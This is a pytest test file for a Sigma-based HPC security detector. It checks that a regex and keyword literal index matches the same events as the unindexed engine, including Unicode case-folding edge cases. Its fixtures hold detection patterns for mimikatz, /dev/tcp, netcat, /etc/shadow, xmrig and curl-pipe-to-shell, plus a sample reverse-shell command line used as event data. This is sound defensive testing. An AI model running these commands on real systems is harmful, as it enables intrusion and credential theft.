"""Regex and keyword rules in the literal index (engine/index.py, engine/regex_literals.py):
the literal read off a pattern is in the case-folded text of every match, and the indexed
engine matches exactly what the unindexed engine matches."""

from __future__ import annotations

import random
import sys
from typing import Any

import pytest
import re2
from sigma.collection import SigmaCollection

from hpcsec.detector.engine.evaluate import Engine
from hpcsec.detector.engine.index import (
    COSTLY_VALUE_WEIGHT,
    INDEX_MIN_RULES,
    PLAIN_VALUES_PER_RULE,
    category_weight,
    required_keys,
)
from hpcsec.detector.engine.regex import PatternSet
from hpcsec.detector.engine.regex_literals import UNSAFE_FOLDED, required_literals
from hpcsec.detector.engine.ruleset import LoadedRule, RuleSet

LONG_S = "\u017f"  # LATIN SMALL LETTER LONG S: RE2's (?i) folds it with s; str.lower keeps it
KELVIN = "\u212a"  # KELVIN SIGN: RE2's (?i) folds it with k; str.lower makes it k


@pytest.mark.parametrize(
    ("pattern", "ignorecase", "literals"),
    [
        (r"\\Windows\\System32\\.{1,5}\.exe", False, {"\\windows\\system32\\"}),
        ("(foo|barbaz)quux", False, {"quux"}),  # one literal prunes more than a set
        ("(foo|barbaz)qu", False, {"foo", "barbaz"}),  # one of each branch
        ("(foo|ba)qu", False, set()),  # a branch without a literal of three: none
        ("(?:abc|abd)efg", False, {"efg"}),
        ("x(?:env|invoke|\\$\\{?input)", False, {"env", "invoke", "input"}),
        ("abc(defghi)?jk", False, {"abc"}),  # never from an optional group
        ("abc(?:defghi)*jk", False, {"abc"}),  # nor from a zero-repeat
        ("x(?:abcd)+y", False, {"abcd"}),  # a repeat that occurs at least once
        ("ab(cd(ef))gh", False, {"abcdefgh"}),  # groups are contiguous
        ("[a-z]+host[0-9]", False, {"host"}),  # never from a class
        ("a[b]cd", False, {"abcd"}),  # a one-character class is that character
        (r"^cmd\.exe$", False, {"cmd.exe"}),  # anchors take no characters
        (r"\x41\x42\x43\\\.", False, {"abc\\."}),  # escapes
        ("Invoke-Mimikatz", False, {"invoke-mimikatz"}),  # folded as the index folds events
        ("(?i)Mimikatz", False, {"mimikatz"}),
        ("Mimikatz", True, {"mimikatz"}),  # Sigma's |re|i
        ("(?i:AbC)DEF", False, {"abcdef"}),
        ("(?-i:XYZ)abc", True, {"xyzabc"}),
        ("caf\u00e9 au lait", False, {" au lait"}),  # ASCII only
        ("(?i)powershell", False, {"power"}),  # cut at s: the text may hold U+017F instead
        ("(?-i:powershell)", True, {"powershell"}),  # ... unless that part is case-sensitive
        (f"(?i)kelvin{KELVIN}", False, {"kelvin"}),
        ("ab", False, set()),  # too short to prune
        ("abc(?i)def", False, set()),  # RE2 reads a flag group anywhere; Python does not
        (r"\pLabcd", False, set()),  # RE2-only syntax
        (r"\Qa.b\E", False, set()),
        ("[[:alpha:]]xyz", False, set()),  # a POSIX class Python reads as `[[:alph]` then `]`
        ("a{,3}bcd", False, {"bcd"}),  # RE2: the literal `a{,3}bcd`, Python: a repeat
        ("(", False, set()),
    ],
)
def test_required_literals(pattern: str, ignorecase: bool, literals: set[str]):
    assert required_literals(pattern, ignorecase) == literals


def test_only_long_s_folds_out_of_reach_of_str_lower():
    """Every non-ASCII character RE2's case folding matches with an ASCII one: `str.lower`
    must turn it into that character, or that character must be cut from literals."""
    everything = "".join(
        chr(c) for c in range(0x80, sys.maxunicode + 1) if not 0xD800 <= c < 0xE000
    )
    folded = re2.compile("(?i)[\\x00-\\x7f]").findall(everything)
    assert sorted(folded) == [LONG_S, KELVIN]
    for char in folded:
        ascii_twin = next(
            c for c in map(chr, range(128)) if re2.fullmatch(f"(?i){re2.escape(c)}", char)
        )
        assert char.lower() == ascii_twin.lower() or ascii_twin.lower() in UNSAFE_FOLDED


PATTERNS = [
    "(?i)ssk",
    "(?i)(kas|bsk|aak)a",
    "(?:ssa|(?i)kka)",
    "sSk",
    "(?i)kask",
    "(?i)a(?-i:Sk)a",
    "(?i)(ab|sk)+k",
    "ab[ks]k?s\\.",
    "(?i)a.sk",
    "k+s{2}",
    "(?i)(?:k|s)ak",
]
ALPHABET = ["a", "b", "k", "s", "A", "K", "S", ".", LONG_S, KELVIN, "\u0130"]


def test_literal_shows_in_the_folded_text_of_every_match():
    rng = random.Random(7)
    texts = ["".join(rng.choice(ALPHABET) for _ in range(rng.randint(2, 9))) for _ in range(4000)]
    texts += [f"{LONG_S}{LONG_S}k", f"{KELVIN}A{LONG_S}{KELVIN}", f"a{LONG_S}{KELVIN}a"]
    found = 0
    for pattern in PATTERNS:
        literals = required_literals(pattern.replace("(?i)", "")) or {""}
        cased = re2.compile(pattern.replace("(?i)", ""))
        literals_folded = required_literals(pattern) or {""}
        folded = re2.compile(pattern)
        for text in texts:
            for compiled, options in ((cased, literals), (folded, literals_folded)):
                if compiled.search(text) is not None:
                    found += 1
                    assert any(o in text.lower() for o in options), (pattern, options, text)
    assert found > 500  # the texts exercise the patterns


def engine_pair(rules: list[dict[str, Any]]) -> tuple[list[str], Engine, Engine]:
    sigma = SigmaCollection.from_dicts(
        [
            {
                "title": f"regex index {n}",
                "id": f"00000000-0000-4000-8000-{n:012d}",
                "logsource": {"product": "hpc", "category": "process"},
                "detection": detection,
            }
            for n, detection in enumerate(rules)
        ]
    )
    ruleset = RuleSet([LoadedRule(r, "<regex index>", 1, "test") for r in sigma.rules])
    ids = [str(r.id) for r in sigma.rules]
    return ids, Engine(ruleset, index_min=1), Engine(ruleset, index_min=10**6)


def assert_matches(rules: list[dict[str, Any]], cases: list[tuple[dict[str, Any], list[int]]]):
    ids, indexed, plain = engine_pair(rules)
    for event, expected in cases:
        event = {"event.category": "process", **event}
        got = sorted(m.rule.id for m in indexed.evaluate([event]))
        assert got == sorted(m.rule.id for m in plain.evaluate([event])), event
        assert got == sorted(ids[n] for n in expected), event


REGEX_RULES = [
    {"sel": {"process.command_line|re": "(?i)powershell.+-enc"}, "condition": "sel"},
    {"sel": {"process.command_line|re": "Class(Name)?Loader"}, "condition": "sel"},
    {"sel": {"process.name|re|i": "^ki(ll|ck)all$"}, "condition": "sel"},
    {"sel": {"process.name|re": "(?i)^nc(at)?$"}, "condition": "sel"},  # no key: fallback
    {"sel": {"process.args|re": "--lua-exec[= ]"}, "condition": "sel"},
    {"sel": {"process.command_line|re": "caf\u00e9\\s+\\d{3}x"}, "condition": "sel"},
]


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"process.command_line": "POWERSHELL.EXE -ENC aGk="}, [0]),
        ({"process.command_line": f"POWER{LONG_S}HELL -enc x"}, [0]),  # RE2 folds U+017F with s
        ({"process.command_line": f"power{LONG_S}hell"}, []),
        ({"process.command_line": "ClassLoader"}, [1]),
        ({"process.command_line": "x ClassNameLoader y"}, [1]),
        ({"process.command_line": "classloader"}, []),  # |re is case-sensitive
        ({"process.name": "KILLALL"}, [2]),
        ({"process.name": f"{KELVIN}ICKALL"}, [2]),  # RE2 folds K with k
        ({"process.name": "NCat"}, [3]),
        ({"process.args": ["-v", "--lua-exec=x.lua"]}, [4]),
        ({"process.args": 7}, []),
        ({"process.command_line": "CAF\u00e9  123x"}, []),
        ({"process.command_line": "caf\u00e9  123x"}, [5]),
    ],
)
def test_regex_rules_indexed_match_unindexed(event: dict[str, Any], expected: list[int]):
    assert_matches(REGEX_RULES, [(event, expected)])


KEYWORD_RULES = [
    {"keywords": ["mimikatz", "sekurlsa::"], "condition": "keywords"},
    {"keywords": ["*/dev/tcp/*"], "condition": "keywords"},
    {"keywords": [4444], "condition": "keywords"},
    {"sel": {"process.name": "bash"}, "keywords": ["nopasswd"], "condition": "sel and keywords"},
    {"keywords": ["evil"], "condition": "not keywords"},  # no key: fallback
    {"keywords": ["shadow"], "condition": "keywords"},
]


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"process.command_line": "Invoke-MIMIKATZ"}, [0, 4]),
        ({"file.path": "x", "process.args": ["a", "SEKURLSA::logonpasswords"]}, [0, 4]),
        ({"process.command_line": "bash -i >& /DEV/TCP/10.0.0.1/9"}, [1, 4]),
        ({"destination.port": 4444}, [2, 4]),
        ({"process.title": "nc 44444"}, [2, 4]),
        ({"process.name": "bash", "process.args": ["ALL=(ALL) NOPASSWD: ALL"]}, [3, 4]),
        ({"process.name": "zsh", "process.args": ["NOPASSWD"]}, [4]),
        ({"process.name": "evil"}, []),
        # keywords search what the node observed, not what hpcsec adds
        ({"hpcsec.asset.name": "shadow"}, [4]),
        ({"gpu.allocated_to_job": "shadow"}, [4]),
        ({"slurm.job.name": "shadow"}, [4]),
        ({"file.path": "/etc/shadow"}, [4, 5]),
        ({"file.path": {"nested": "shadow"}}, [4]),
        ({"file.path": [None, {"x": "shadow"}, "Shadow"]}, [4, 5]),
    ],
)
def test_keyword_rules_indexed_match_unindexed(event: dict[str, Any], expected: list[int]):
    assert_matches(KEYWORD_RULES, [(event, expected)])


def test_keywords_search_slurm_fields_of_slurm_job_events():
    rules = [{"keywords": ["xmrig"], "condition": "keywords"}]
    sigma = SigmaCollection.from_dicts(
        [
            {
                "title": "slurm keyword",
                "id": "00000000-0000-4000-8000-000000000099",
                "logsource": {"product": "hpc", "category": "slurm_job"},
                "detection": rules[0],
            }
        ]
    )
    ruleset = RuleSet([LoadedRule(r, "<slurm>", 1, "test") for r in sigma.rules])
    event = {"event.category": "slurm_job", "slurm.job.name": "XMRig-miner"}
    for engine in (Engine(ruleset, index_min=1), Engine(ruleset, index_min=10**6)):
        assert [m.rule.id for m in engine.evaluate([event])] == [str(sigma.rules[0].id)]


def test_regex_reads_lone_surrogates_without_failing():
    """A file name that was not UTF-8 reaches the engine as lone surrogates: a regex rule
    reads it (RE2 sees one character per surrogate), it never raises."""
    rules = [
        {"sel": {"file.path|re": "/tmp/evil"}, "condition": "sel"},
        {"sel": {"file.path|re": "^/x/.$"}, "condition": "sel"},
        {"sel": {"file.path|re": "\\.so$"}, "condition": "sel"},
    ]
    assert_matches(
        rules,
        [
            ({"file.path": "/tmp/evil\udc80.so"}, [0, 2]),
            ({"file.path": "/x/\ud800"}, [1]),
            ({"file.path": ["/x/\udcff", "\udc80.so"]}, [1, 2]),
        ],
    )


def test_keyword_and_regex_values_weigh_a_small_category_into_the_index():
    many = [{"keywords": [f"word{n}" for n in range(4)], "condition": "keywords"}]
    few = [{"sel": {"process.name": f"name{n}"}, "condition": "sel"} for n in range(3)]
    sigma = SigmaCollection.from_dicts(
        [
            {
                "title": f"weight {n}",
                "id": f"00000000-0000-4000-8000-{n:012d}",
                "logsource": {"product": "hpc", "category": "process"},
                "detection": detection,
            }
            for n, detection in enumerate(many + few)
        ]
    )
    rules = [LoadedRule(r, "<weight>", 1, "test") for r in sigma.rules]
    assert category_weight(rules[1:]) == 3  # plain rules count one each
    assert category_weight(rules) == 3 + 4 * COSTLY_VALUE_WEIGHT >= INDEX_MIN_RULES
    engine = Engine(RuleSet(rules))
    event = {"event.category": "process", "process.args": ["x", "WORD3"], "process.name": "name1"}
    assert sorted(m.rule.id for m in engine.evaluate([event])) == [
        str(sigma.rules[0].id),
        str(sigma.rules[2].id),
    ]


def test_many_plain_values_weigh_a_few_rules_into_the_index():
    """Ten SigmaHQ driver-load rules hold 5,700 hashes and names: the compiled path tests
    each for every event. Their values count (a rule for each PLAIN_VALUES_PER_RULE), so
    such a category is indexed, and matches as the compiled path does."""
    hashes = [f"{n:032x}" for n in range(600)]
    rules = [
        {"sel": {"file.hash|contains": hashes[:300]}, "condition": "sel"},
        {
            "sel": {"file.path|endswith": [f"\\{h[:8]}.sys" for h in hashes[300:]]},
            "condition": "sel",
        },
        {"sel": {"process.name": "few"}, "condition": "sel"},
    ]
    sigma = SigmaCollection.from_dicts(
        [
            {
                "title": f"values {n}",
                "id": f"00000000-0000-4000-8000-{n:012d}",
                "logsource": {"product": "hpc", "category": "file_access"},
                "detection": detection,
            }
            for n, detection in enumerate(rules)
        ]
    )
    loaded = [LoadedRule(r, "<values>", 1, "test") for r in sigma.rules]
    assert category_weight(loaded[2:]) == 1
    assert category_weight(loaded) == 300 // PLAIN_VALUES_PER_RULE * 2 + 1 >= INDEX_MIN_RULES
    events = [
        {"event.category": "file_access", "file.hash": "MD5=" + hashes[299].upper()},
        {"event.category": "file_access", "file.hash": hashes[300], "file.path": "x"},
        {"event.category": "file_access", "file.path": f"C:\\D\\{hashes[599][:8]}.SYS"},
        {"event.category": "file_access", "file.path": f"{hashes[599][:8]}.sys"},
        {"event.category": "file_access", "process.name": "FEW", "file.hash": [hashes[0]]},
    ]
    indexed = Engine(RuleSet(loaded)).evaluate(events)
    plain = Engine(RuleSet(loaded), index_min=10**9).evaluate(events)
    pairs = [(events.index(m.events[0]), m.rule.title) for m in indexed]
    assert pairs == [(events.index(m.events[0]), m.rule.title) for m in plain]
    assert pairs == [(0, "values 0"), (2, "values 1"), (4, "values 0"), (4, "values 2")]


# Patterns without a literal of MIN_LITERAL characters: their own `re` keys, all of a field's
# searched in one RE2 pass (regex.PatternSet), as the rule's own test would search each.
PATTERN_RULES = [
    {"sel": {"process.name|re": "^[A-Z]{2}\\d"}, "condition": "sel"},
    {"sel": {"process.name|re|i": "^[a-z]{2}\\d"}, "condition": "sel"},
    {"sel": {"process.command_line|re|m": "^x$"}, "condition": "sel"},
    {"sel": {"process.command_line|re|s": "a.b"}, "condition": "sel"},
    {"sel": {"process.command_line|re": "^x$|a.b"}, "condition": "sel"},
    {"sel": {"process.args|re": "^\\d{2}$|^t.ue$"}, "condition": "sel"},
    {
        "sel": {"process.command_line|re": ["\\s[a-f0-9]{8}\\s", "curl.+\\|\\s*sh"]},
        "f": {"user.name": "root"},
        "condition": "sel and not f",
    },
    {"sel": {"file.path|re": "[0-9]{2}"}, "condition": "sel"},
]


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"process.name": "AB1"}, [0, 1]),
        ({"process.name": "aB1"}, [1]),  # |re is case-sensitive, |re|i is not
        ({"process.name": "ab"}, []),
        ({"process.name": ["x", "AB1"]}, [0, 1]),  # list elements as they are, not folded
        ({"process.command_line": "q\nx\ny"}, [2]),  # |m: ^ and $ at line breaks
        ({"process.command_line": "x"}, [2, 4]),
        ({"process.command_line": "a\nb"}, [3]),  # |s: . matches a newline
        ({"process.command_line": "a-b"}, [3, 4]),
        ({"process.args": 42}, [5]),  # numbers and booleans by their JSON spelling
        ({"process.args": True}, [5]),
        ({"process.args": ["x", None, "17"]}, [5]),
        ({"process.args": {"n": "42"}}, []),
        ({"process.args": None}, []),
        ({"process.command_line": "run  0123cdef  now"}, [6]),
        ({"process.command_line": "run  0123cdef  now", "user.name": "root"}, []),
        ({"process.command_line": "CURL x | sh"}, []),  # the literal `curl`, case-sensitive
        ({"process.command_line": "curl x |  sh"}, [6]),
        ({"file.path": "/tmp/\udcff12"}, [7]),  # a lone surrogate: read, never an error
        ({"file.path": "/tmp/\udcff"}, []),
        ({"file.path": "\udcff\udcfe9\udcfd9"}, []),
    ],
)
def test_patterns_without_literals_indexed_match_unindexed(
    event: dict[str, Any], expected: list[int]
):
    assert_matches(PATTERN_RULES, [(event, expected)])


def test_patterns_without_literals_are_keys_of_their_own():
    ids, indexed, _ = engine_pair(PATTERN_RULES)
    event = {"event.category": "process", "process.name": "zz", "process.command_line": "x"}
    assert sorted(m.rule.id for m in indexed.evaluate([event])) == [ids[2], ids[4]]
    detection = {"sel": {"process.name|re": "^[A-Z]{2}\\d"}, "condition": "sel"}
    header = {"title": "t", "logsource": {"product": "hpc", "category": "process"}}
    sigma = SigmaCollection.from_dicts([{**header, "detection": detection}]).rules[0]
    keys = required_keys(sigma.detection.parsed_condition[0].parse())
    assert keys == {("process.name", "re", "^[A-Z]{2}\\d")}


def test_a_pattern_set_too_large_for_one_pass_searches_each_pattern():
    """RE2 compiles each pattern but not their set: each is then searched on its own."""
    patterns = [f"x{n}\\pL{{1,400}}y" for n in range(4)]
    for pattern in patterns:
        re2.compile(pattern)
    patterns_set = PatternSet(patterns)
    assert not patterns_set.one_pass
    assert patterns_set.found("x1abcy x3éy") == [1, 3]
    assert patterns_set.found("x1y") == []
    small = PatternSet(["^[A-Z]{2}", "(?i)^[a-z]{2}", "(?s)a.b", "\\d"])
    assert small.one_pass
    assert small.found("AB") == [0, 1]
    assert small.found("a\nb\udcff") == [2]
    assert small.found("\udcff9") == [3]
